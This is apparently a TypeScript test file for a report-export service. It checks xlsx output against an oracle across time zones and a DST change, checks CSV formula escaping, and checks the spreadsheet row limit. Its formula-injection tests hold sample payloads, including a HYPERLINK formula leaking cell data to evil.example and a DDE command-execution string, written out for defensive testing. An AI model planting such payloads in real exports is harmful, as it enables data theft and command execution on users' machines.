/**
 * Files opened in a spreadsheet: reportFormat=xlsx read back by SheetJS (an
 * independent reader) and compared cell by cell with the conversation
 * oracle across a DST change, zones and locales; text that a spreadsheet
 * would run as a formula staying text in xlsx, unchanged in CSV, and
 * prefixed with ' in CSV with csvEscapeFormulas=true; the sheet's row limit
 * refused at create.
 */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import { createCompany, createUser, grant } from '../src/accounts/accounts.ts';
import type { ColumnType } from '../src/exports/catalog/types.ts';
import { PASSWORD } from './helpers/cluster.ts';
import { CREATED_IN_RANGE } from './helpers/expected.ts';
import { checkCase, conversationOracle } from './helpers/oracle.ts';
import { sheetRows } from './helpers/sheet.ts';
import { basic, download, exportFile, getJson, startTestService, waitClosed } from './helpers/service.ts';

const svc = await startTestService();
// 2019-03-08 to 2019-03-13 UTC spans the US DST change of 2019-03-10.
const START = Date.UTC(2019, 2, 8);
const END = Date.UTC(2019, 2, 13);

describe('xlsx: every cell of the conversation export against the oracle', () => {
  const oracle = conversationOracle(() => CREATED_IN_RANGE);
  const base = { path: 'conversation', start: START, end: END, query: 'conversationReportType=CREATED', format: 'xlsx' } as const;
  it('America/Chicago across the DST change, shown as ISO 8601 without the offset', async () => {
    const rows = await checkCase(svc, { ...base, zone: { iana: 'America/Chicago' } }, oracle);
    assert.ok(rows.length >= 100, `the range has rows (${rows.length})`);
    const days = new Set(rows.map((r) => r['CREATED_TIME']!.slice(0, 10)));
    assert.ok(days.has('2019-03-09') && days.has('2019-03-11'), 'both sides of the change');
  });
  it('locale en in America/Chicago', async () => {
    await checkCase(svc, { ...base, zone: { iana: 'America/Chicago' }, locale: 'en' }, oracle);
  });
  it('locale de at a fixed +05:30, some columns in another order', async () => {
    await checkCase(svc, { ...base, zone: { offsetMs: 19_800_000 }, locale: 'de', columns: ['CLOSED_TIME', 'HANDLE_TIME_MILLIS', 'AUTHOR_HANDLE', 'CONVERSATION_ID', 'CREATED_TIME'] }, oracle);
  });

  it('downloads as a spreadsheet: .xlsx name and Content-Type, a zip', async () => {
    const h = basic('demo');
    const created = await getJson(`${svc.base}/api/public/reports/report/conversation?companyKey=demo&startTime=${START}&endTime=${END}&reportFormat=XLSX&reportMetrics=CONVERSATION_ID`, h);
    assert.equal(created.status, 200, JSON.stringify(created.body));
    const closed = await waitClosed(created.body.result.statusUrl as string, h);
    const file = await download(closed.result.jobInfo.downloadUrl as string, h);
    assert.match(new URL(file.location).pathname, /\/conversation-\d+\.xlsx$/);
    assert.equal(file.contentType, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.equal(file.body.subarray(0, 4).toString('latin1'), 'PK\x03\x04');
    const wb = XLSX.read(file.body, { type: 'buffer' });
    assert.deepEqual(wb.SheetNames, ['conversation'], 'the sheet is named after the export');
    assert.equal(wb.Props?.Author, 'care-reports');
  });
});

describe('text a spreadsheet would run as a formula', () => {
  // A company of its own whose customer writes formulas, DDE and sign-led text.
  const PAYLOADS = [
    '=SUM(A1:A9)',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    'plain, "quoted" text',
  ];
  const HANDLE = '@attacker';
  const NAME = '=HYPERLINK("http://evil.example/","Customer")';
  before(async () => {
    await createCompany(svc.pool, { key: 'sheets', name: 'Sheets', timezone: 'UTC' });
    await createUser(svc.pool, { companyKey: 'sheets', username: 'sheets', password: PASSWORD });
    await grant(svc.pool, 'sheets', 'ANALYTICS_REPORTS_API');
    await grant(svc.pool, 'sheets', 'INGEST');
    const u = '2019-05-02T00:00:00Z';
    const at = (i: number) => new Date(Date.UTC(2019, 4, 1, 10, i)).toISOString();
    const batches: [string, object[]][] = [
      ['authors', [{ id: 40, handle: HANDLE, displayName: NAME, network: 'CHAT', firstSeenAt: '2019-01-01T00:00:00Z', updatedAt: u }]],
      ['conversations', [{ id: 50, displayId: 'S-50', network: 'CHAT', status: 'OPEN', priority: 1, authorId: 40, createdAt: at(0), updatedAt: u }]],
      ['posts', PAYLOADS.map((content, i) => ({ id: 60 + i, conversationId: 50, type: 'INCOMING', authorId: 40, postedAt: at(i), content, updatedAt: u }))],
    ];
    for (const [entity, records] of batches) {
      const r = await getJson(`${svc.base}/api/v2/ingest/${entity}`, { ...basic('sheets'), 'Content-Type': 'application/x-ndjson' }, {
        method: 'POST',
        body: records.map((x) => JSON.stringify(x)).join('\n'),
      });
      assert.equal(r.status, 200, `${entity}: ${JSON.stringify(r.body)}`);
    }
  });
  const range = `startTime=${Date.UTC(2019, 4, 1)}&endTime=${Date.UTC(2019, 4, 2)}`;
  const columns = ['POST_ID', 'AUTHOR_HANDLE', 'CONTENT', 'PRIORITY'];
  const query = (format: string) => `incoming_post?companyKey=sheets&${range}&reportFormat=${format}&${columns.map((c) => `reportMetrics=${c}`).join('&')}`;
  /** The rows as stored, each value as text. */
  const stored = PAYLOADS.map((content, i) => ({ POST_ID: String(60 + i), AUTHOR_HANDLE: HANDLE, CONTENT: content, PRIORITY: '1' }));
  const typeOf = (name: string): ColumnType => (name === 'POST_ID' ? 'id' : name === 'PRIORITY' ? 'integer' : 'text');

  it('xlsx: string cells holding the text exactly, no formula anywhere', async () => {
    const file = await exportFile(svc, query('xlsx'), 'sheets');
    assert.deepEqual(sheetRows(file, typeOf), stored);
  });
  it('CSV: unchanged, byte for byte, by default', async () => {
    const csv = (await exportFile(svc, query('csv'), 'sheets')).toString('utf8');
    assert.deepEqual(parse(csv, { columns: true }), stored);
    assert.ok(csv.includes("\n62,@attacker,=cmd|' /C calc'!A0,1\n"), csv);
  });
  it("CSV with csvEscapeFormulas=true: text starting with = + - @ tab or CR gets a leading ', nothing else changes", async () => {
    const csv = (await exportFile(svc, `${query('csv')}&csvEscapeFormulas=true`, 'sheets')).toString('utf8');
    // OWASP's rule, written out here: the first character of a text value is one of = + - @ \t \r.
    const escape = (v: string) => (['=', '+', '-', '@', '\t', '\r'].includes(v.charAt(0)) ? `'${v}` : v);
    const want = stored.map((r) => ({ ...r, AUTHOR_HANDLE: escape(r.AUTHOR_HANDLE), CONTENT: escape(r.CONTENT) }));
    assert.deepEqual(parse(csv, { columns: true }), want);
    assert.equal(want.filter((r) => r.CONTENT.startsWith("'")).length, 8, 'the eight formula-led values are escaped');
    const authors = (await exportFile(svc, `author?companyKey=sheets&${range}&reportFormat=csv&csvEscapeFormulas=true&reportMetrics=HANDLE&reportMetrics=DISPLAY_NAME&reportMetrics=FOLLOWER_COUNT`, 'sheets')).toString('utf8');
    assert.deepEqual(parse(authors, { columns: true }), [{ HANDLE: `'${HANDLE}`, DISPLAY_NAME: `'${NAME}`, FOLLOWER_COUNT: '0' }]);
  });
});

describe("the sheet's row limit", () => {
  // 1,600 teams in 672 quarter-hour buckets of a week: 1,075,200 rows, more than a sheet's 1,048,575.
  before(async () => {
    const company = await createCompany(svc.pool, { key: 'wide', name: 'Wide', timezone: 'UTC' });
    await createUser(svc.pool, { companyKey: 'wide', username: 'wide', password: PASSWORD });
    await grant(svc.pool, 'wide', 'ANALYTICS_REPORTS_API');
    await svc.pool.query(`INSERT INTO teams (company_id, team_id, uuid, name) SELECT $1, g, gen_random_uuid(), 'Team ' || g FROM generate_series(1, 1600) g`, [company.id]);
    await svc.pool.query('ANALYZE teams');
  });
  const week = `startTime=${Date.UTC(2019, 4, 6)}&endTime=${Date.UTC(2019, 4, 13)}&timeInterval=900000&reportMetrics=TEAM_ID`;
  const create = (format: string) => getJson(`${svc.base}/api/public/reports/report/team_performance_interval?companyKey=wide&${week}&reportFormat=${format}`, basic('wide'));

  it('an xlsx export with more rows than a sheet holds is refused at create, with the count', async () => {
    const r = await create('xlsx');
    assert.equal(r.status, 400, JSON.stringify(r.body));
    assert.match(r.body.message ?? '', /this export would have 1075200 rows, more than the 1048575 data rows one xlsx sheet holds; .*or use reportFormat=csv/);
  });
  it('the same export as CSV is accepted', async () => {
    const r = await create('csv');
    assert.equal(r.status, 200, JSON.stringify(r.body));
    const { workflowId, runId } = r.body.result as { workflowId: string; runId: string };
    const cancel = await getJson(`${svc.base}/api/public/reports/report/${workflowId}/${encodeURIComponent(runId)}?companyKey=wide`, basic('wide'), { method: 'DELETE' });
    assert.equal(cancel.status, 200, JSON.stringify(cancel.body));
  });
});
